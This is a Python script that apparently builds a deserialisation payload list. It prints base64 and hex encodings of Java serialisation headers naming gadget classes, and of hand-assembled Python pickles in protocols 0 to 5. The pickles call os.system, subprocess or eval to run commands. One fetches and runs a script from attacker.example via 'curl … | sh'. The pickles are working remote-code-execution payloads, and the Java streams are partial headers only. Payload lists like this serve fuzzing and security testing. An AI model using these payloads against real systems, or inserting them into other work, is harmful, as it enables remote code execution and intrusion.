#!/usr/bin/env python3
"""Prints the binary deserialisation payloads of attacks/deserialization.txt (the lines after the
hand-written ones): Java serialisation streams (magic aced0005, then a class descriptor naming a
known gadget class) as base64, hex and raw ("b64:" lines carry the raw bytes), and Python pickles
of os.system / subprocess in protocols 0, 2, 3, 4 and 5, assembled opcode by opcode (nothing is
unpickled or serialised from live objects)."""
import base64

lines = []
for cls in [b"java.util.PriorityQueue", b"org.apache.commons.collections.functors.InvokerTransformer",
            b"java.util.HashMap", b"sun.reflect.annotation.AnnotationInvocationHandler",
            b"org.apache.commons.beanutils.BeanComparator", b"java.util.HashSet",
            b"com.sun.rowset.JdbcRowSetImpl", b"org.springframework.beans.factory.ObjectFactory"]:
    raw = (b"\xac\xed\x00\x05sr\x00" + bytes([len(cls)]) + cls +
           b"\x94\xda\x30\xb4\xfb\x3f\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort")
    lines.append(base64.b64encode(raw).decode())
    lines.append(raw.hex())
    lines.append("b64:" + base64.b64encode(raw).decode())
for p in [b"cos\nsystem\n(S'id'\ntR.",
          b"cposix\nsystem\n(S'curl http://attacker.example/x|sh'\ntR.",
          b"c__builtin__\neval\n(S'__import__(\"os\").system(\"id\")'\ntR.",
          b"csubprocess\ncheck_output\n((S'id'\ntltR."]:
    lines.append(base64.b64encode(p).decode())
    lines.append("b64:" + base64.b64encode(p).decode())
for proto in (2, 3, 4, 5):
    body = b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
    if proto >= 4:
        raw = bytes([0x80, proto, 0x95]) + len(body).to_bytes(8, "little") + body
    else:
        raw = bytes([0x80, proto]) + b"cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
    lines.append(base64.b64encode(raw).decode())
    lines.append("b64:" + base64.b64encode(raw).decode())
print("\n".join(lines))
